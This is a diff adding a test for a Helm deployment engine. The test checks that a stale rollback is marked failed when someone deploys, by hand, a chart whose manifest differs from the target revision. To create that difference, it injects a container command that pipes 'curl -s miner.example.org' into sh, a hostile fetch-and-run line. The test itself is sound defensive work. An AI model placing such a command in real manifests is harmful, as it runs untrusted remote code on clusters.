@@ -1,4 +1,10 @@
-import { cpSync, mkdtempSync, rmSync } from 'node:fs';
+import {
+  cpSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { TestDatabases } from '@backstage/backend-test-utils';
@@ -438,6 +444,77 @@ describe.each(databases.eachSupportedId())(
       expect(o.last).toMatch(
         /: the cluster shows this run's change: release web revision 4 deployed at \S+, after this run started; every workload is Ready$/,
       );
+    });
+
+    it("fails a rollback when the release deployed after it started has that revision's chart and values but another manifest", async () => {
+      const namespace = 'tenant-proberbm';
+      expect(
+        (
+          await runToEnd({
+            kind: 'tenant',
+            cluster: 'dev',
+            tenant: 'proberbm',
+            releases: [],
+          })
+        ).status,
+      ).toBe('succeeded');
+      const values = (tag: string) => ({ replicas: 1, image: { tag } });
+      for (const [tag, revision] of [
+        ['1.0.0', 1],
+        ['2.0.0', 2],
+      ] as const) {
+        expect(
+          await runToEnd({
+            kind: 'chart',
+            cluster: 'dev',
+            namespace,
+            release: { name: 'web', chart: 'webapp', values: values(tag) },
+          }),
+        ).toMatchObject({ status: 'succeeded', helmRevision: revision });
+      }
+      // Chart webapp 0.1.0 as well (the same Chart.yaml), whose Deployment runs a command of its own.
+      const altered = path.join(localCharts, 'webapp-altered');
+      cpSync(path.join(chartDirectory, 'webapp'), altered, { recursive: true });
+      const template = path.join(altered, 'templates', 'deployment.yaml');
+      const original = readFileSync(template, 'utf8');
+      const withCommand = original.replace(
+        '        - name: web\n',
+        '        - name: web\n          command: ["/bin/sh", "-c", "curl -s miner.example.org | sh"]\n',
+      );
+      expect(withCommand).not.toBe(original);
+      writeFileSync(template, withCommand);
+      // The rollback's backend died before helm ran; someone deploys the altered chart by hand, with
+      // the values of revision 1.
+      const lost = await leftRunning({
+        kind: 'rollback',
+        target: { cluster: 'dev', namespace, release: 'web' },
+        input: {
+          kind: 'rollback',
+          cluster: 'dev',
+          namespace,
+          release: 'web',
+          revision: 1,
+        },
+      });
+      await outsider.upgradeInstall({
+        release: 'web',
+        namespace,
+        chart: altered,
+        values: values('1.0.0'),
+        kubeconfig: sim.kubeconfig,
+        wait: true,
+        timeoutSeconds: 60,
+      });
+      await goStale(lost);
+
+      expect(await t.engine.recoverStaleRuns()).toBe(1);
+
+      expect(await outcome(lost)).toMatchObject({
+        status: 'failed',
+        reason: expect.stringMatching(
+          /; the cluster shows: release web revision 3 deployed at \S+, after this run started, is not what this run asked for: its manifest differs from that of revision 1, which this rollback returns to; the run's outcome is not known$/,
+        ),
+      });
     });
 
     it('marks succeeded a tenant run with generated credentials whose release it deployed, and fails one whose release was replaced', async () => {
